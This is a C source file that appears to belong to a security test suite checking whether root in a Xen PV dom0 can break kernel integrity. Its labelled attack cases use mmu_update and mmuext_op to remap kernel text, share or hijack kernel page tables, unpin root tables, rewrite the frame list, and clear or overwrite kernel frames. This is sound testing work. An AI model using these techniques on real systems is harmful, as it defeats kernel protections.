// SPDX-License-Identifier: GPL-2.0-only
/*
 * Page tables of a PV dom0, by the ways that pagetable.c does not take: single
 * entries through other hypercalls, a whole table of the kernel's hung into
 * this process, the root table itself, and Xen's own list of which page lies in
 * which frame.
 */
#include "paging.h"

#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>

static const char pv_only[] =
    "PV only: a PVH kernel edits its page tables without Xen";

static long extended(const struct mmuext_op *op)
{
    return hypercall4(__HYPERVISOR_mmuext_op, op, 1, 0, DOMID_SELF);
}

static void flush(void)
{
    extended(&(struct mmuext_op){ .cmd = MMUEXT_TLB_FLUSH_ALL });
}

/* ---- one entry of our own ---- */

/* Have Xen replace the entry @pte, which maps @page. */
typedef void replace_entry(const void *page, struct pte pte, uint64_t value);

static void by_update(const void *page, struct pte pte, uint64_t value)
{
    (void)page;
    update_entry(pte.where | MMU_NORMAL_PT_UPDATE, value);
    flush();
}

static void by_preserving_update(const void *page, struct pte pte,
                                 uint64_t value)
{
    (void)page;
    update_entry(pte.where | MMU_PT_UPDATE_PRESERVE_AD, value);
    flush();
}

static void by_other_domain(const void *page, struct pte pte, uint64_t value)
{
    (void)pte;
    hypercall4(__HYPERVISOR_update_va_mapping_otherdomain, page, value,
               UVMF_INVLPG | UVMF_ALL, DOMID_SELF);
}

static enum outcome alias_kernel_text(replace_entry *replace)
{
    const uint64_t frame = kernel_frame(getppid_code());
    uint8_t *page = buffer(PAGE_SIZE);
    struct pte pte;
    bool lied;

    if ( !dom0_is_pv() )
        return not_applicable(pv_only);

    pte = find_pte(own_root(), (uintptr_t)page, 1);
    if ( !frame || !pte.value )
        return cannot_try("no frame for the kernel's text, or no entry");

    replace(page, pte, frame * PAGE_SIZE | PTE_USER | PTE_NX);
    lied = patch_through(page);
    replace(page, pte, pte.value);

    return effect_either(lied, "getppid", "ran code of ours", "intact");
}

/*
 * U-PTE-ENTRY: map kernel text through an entry of this process's.
 *
 * mmu_update takes the machine address of any entry of any page table of
 * dom0's. Root finds its own by reading the kernel's memory.
 */
ATTACK_BY("U-PTE-ENTRY", "map kernel text by mmu_update of our own entry",
          alias_kernel_text(by_update))

/*
 * U-PTE-PRESERVE: the same by mmu_update's other command.
 *
 * It leaves the accessed and dirty bits alone, and is otherwise as good.
 */
ATTACK_BY("U-PTE-PRESERVE",
          "map kernel text, preserving accessed and dirty bits",
          alias_kernel_text(by_preserving_update))

/*
 * U-PTE-OTHER: the same by the hypercall that maps another domain's memory.
 *
 * It has a number of its own, and does not mind that the other domain is this
 * one.
 */
ATTACK_BY("U-PTE-OTHER", "map kernel text by update_va_mapping_otherdomain",
          alias_kernel_text(by_other_domain))

/* ---- a table of the kernel's ---- */

#define TABLE_SPAN (512 * PAGE_SIZE) /* what one L1 table maps */

/* Memory that has an L1 table for itself. */
static uint8_t *span_of_one_table(void)
{
    uint8_t *start = mmap(NULL, 2 * TABLE_SPAN, PROT_READ | PROT_WRITE,
                          MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

    start += -(uintptr_t)start % TABLE_SPAN;
    *start = 1;
    return start;
}

static void write_mark(void *to)
{
    memcpy(to, new_mark(), MARK_SIZE);
}

/*
 * U-PTE-TABLE: hang a page table of the kernel's into this process.
 *
 * One L2 entry suffices to share a kernel table, and with it two megabytes of
 * kernel memory with the rights that the kernel has to it: Xen makes every
 * entry of a 64-bit PV domain one for user mode, and leaves it to the kernel to
 * keep its tables from root's.
 */
PV_ATTACK("U-PTE-TABLE", "share a page table of the kernel's",
          "a PVH kernel edits its page tables without Xen")
{
    uint8_t *span = span_of_one_table();
    struct pte own, kernel;

    own = find_pte(own_root(), (uintptr_t)span, 2);
    kernel = find_pte(kernel_root(), victim(), 2);
    if ( !own.value || !kernel.value )
        return cannot_try("no entries of the process's or the kernel's");

    new_mark();
    if ( !update_entry(own.where,
                       PTE_FRAME(kernel.value) * PAGE_SIZE | PTE_USER) )
    {
        flush();
        survives(write_mark, span + victim() % TABLE_SPAN);
        update_entry(own.where, own.value);
        flush();
    }

    return effect_either(victim_has_mark(), "the kernel's version",
                         "rewritten from user mode", "unchanged");
}

/* ---- the root ---- */

/* Have the kernel load our root tables again, by running another process. */
static void switch_away_and_back(void)
{
    pid_t child = fork();

    if ( child == 0 )
        _exit(0);
    waitpid(child, NULL, 0);
}

/*
 * U-PTE-ROOT: run user mode on the kernel's page tables.
 *
 * A PV kernel has two root tables for each process, with and without itself.
 * new_user_baseptr makes the one with the kernel user mode's as well. All of
 * the kernel is then this program's to read and write.
 */
PV_ATTACK("U-PTE-ROOT", "run user mode on the kernel's page tables",
          "a PVH kernel edits its page tables without Xen")
{
    struct mmuext_op op = { .cmd = MMUEXT_NEW_USER_BASEPTR };
    bool written;

    op.arg1.mfn = frame_of_page(own_root());
    if ( !op.arg1.mfn || !victim() )
        return cannot_try("no root table, or no address for the victim");

    new_mark();
    extended(&op);
    survives(write_mark, (void *)victim());
    written = victim_has_mark();
    switch_away_and_back();

    return effect_either(written, "the kernel's version",
                         "rewritten at its own address", "unchanged");
}

/* A process that sleeps, and the page number of its root table. */
struct sleeper {
    pid_t pid;
    uint64_t root;
};

static struct sleeper start_sleeper(void)
{
    volatile uint64_t *root = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
                                   MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    const pid_t child = fork();

    if ( child == 0 )
    {
        *root = own_root();
        kill(getpid(), SIGSTOP);
        _exit(0);
    }
    waitpid(child, NULL, WUNTRACED);

    return (struct sleeper){ .pid = child, .root = *root };
}

static void end_sleeper(struct sleeper sleeper)
{
    kill(sleeper.pid, SIGCONT);
    waitpid(sleeper.pid, NULL, 0);
}

/* Whether @page is the root table of this page number, and can be written. */
static bool writes_table(volatile uint64_t *page, uint64_t root)
{
    static const unsigned int unused = 200;
    static const uint64_t absent = 0x5a5a00; /* of no use to a processor */
    const uint64_t address = (uint64_t)unused << 39;
    bool written;

    page[unused] = absent;
    written = entry_at(root, address, 4) == absent;
    page[unused] = 0;

    return written;
}

/*
 * U-PTE-UNPIN: turn a page table back into memory.
 *
 * The kernel pins its root tables so that Xen keeps them valid, and lets nobody
 * write to them. One that has been unpinned behind its back is a page like any
 * other as soon as no CPU runs on it. Here root writes to the root table of a
 * process that is stopped.
 */
PV_ATTACK("U-PTE-UNPIN", "unpin a root table of the kernel's and write to it",
          "a PVH kernel edits its page tables without Xen")
{
    struct mmuext_op op = { .cmd = MMUEXT_UNPIN_TABLE };
    uint64_t *page = buffer(PAGE_SIZE);
    const uint64_t own = own_frame(page);
    struct sleeper sleeper;
    bool written;

    stay_on_cpu(0); /* where the sleeper's table is in use no longer */
    sleeper = start_sleeper();
    op.arg1.mfn = frame_of_page(sleeper.root);
    if ( !op.arg1.mfn || !own )
        return cannot_try("no root table, or no frame for a page of ours");

    extended(&op);
    map_own(page, op.arg1.mfn);
    written = writes_table(page, sleeper.root);
    map_own(page, own);
    op.cmd = MMUEXT_PIN_L4_TABLE;
    extended(&op);
    end_sleeper(sleeper);

    return effect_either(written, "a page table of the kernel's", "written to",
                         "unchanged");
}

/* ---- frames ---- */

/*
 * U-PTE-M2P: have the kernel mistake one page for another.
 *
 * Xen keeps for dom0 the list of which page each frame is. A PV kernel asks it
 * whenever it looks at one of its page tables; mmu_update writes to it. Here
 * the kernel no longer finds a page of this program's, because it is said to be
 * another; where it does not notice, it frees the other in its place.
 */
PV_ATTACK("U-PTE-M2P", "change which page a frame is said to be",
          "Xen keeps no such list for PVH")
{
    uint8_t *pages = buffer(2 * PAGE_SIZE);
    const uint64_t frame = own_frame(pages), page = own_page_number(pages),
                   other = own_page_number(pages + PAGE_SIZE);
    bool mistaken;

    if ( !frame || !other )
        return cannot_try("no frame for a page of ours");

    update_entry(frame * PAGE_SIZE | MMU_MACHPHYS_UPDATE, other);
    mistaken = own_page_number(pages) != page;
    update_entry(frame * PAGE_SIZE | MMU_MACHPHYS_UPDATE, page);

    return effect_either(mistaken, "the kernel", "takes one page for another",
                         "knows which page is which");
}

/* What a frame operation should leave in the kernel's page. */
static bool vdso_is(const uint8_t *content)
{
    return !memcmp(vdso_page(), content, PAGE_SIZE);
}

/* Run a frame operation on the kernel's page, and see what it left there. */
static enum outcome on_kernel_frame(struct mmuext_op op, const uint8_t *content)
{
    const uint8_t *page = vdso_page();
    uint8_t *before = buffer(PAGE_SIZE);
    bool done;

    if ( !dom0_is_pv() )
        return not_applicable(
            "PV only: Xen has no frame operations for a PVH kernel");
    if ( !page || !own_frame(page) )
        return cannot_try("no frame for the kernel's page");

    memcpy(before, page, PAGE_SIZE);
    op.arg1.mfn = own_frame(page);
    extended(&op);
    done = vdso_is(content);
    if ( !vdso_is(before) )
        copy_to_frame(op.arg1.mfn, 0, before, PAGE_SIZE);

    return effect_either(done, "the kernel's vDSO", "holds what it was told to",
                         "unchanged");
}

/*
 * U-PTE-CLEAR: clear a frame of the kernel's.
 *
 * clear_page takes any frame of dom0's that could be mapped for writing, mapped
 * or not.
 */
ATTACK("U-PTE-CLEAR", "clear a kernel frame through mmuext_op")
{
    return on_kernel_frame((struct mmuext_op){ .cmd = MMUEXT_CLEAR_PAGE },
                           buffer(PAGE_SIZE));
}

/*
 * U-PTE-COPY: copy a page of ours over a frame of the kernel's.
 */
ATTACK("U-PTE-COPY", "copy over a kernel frame through mmuext_op")
{
    struct mmuext_op op = { .cmd = MMUEXT_COPY_PAGE };
    uint8_t *content = buffer(PAGE_SIZE);

    if ( vdso_page() )
        memcpy(content, vdso_page(), PAGE_SIZE);
    memcpy(content + PAGE_SIZE - MARK_SIZE, new_mark(), MARK_SIZE);
    op.arg2.src_mfn = own_frame(content);

    return on_kernel_frame(op, content);
}
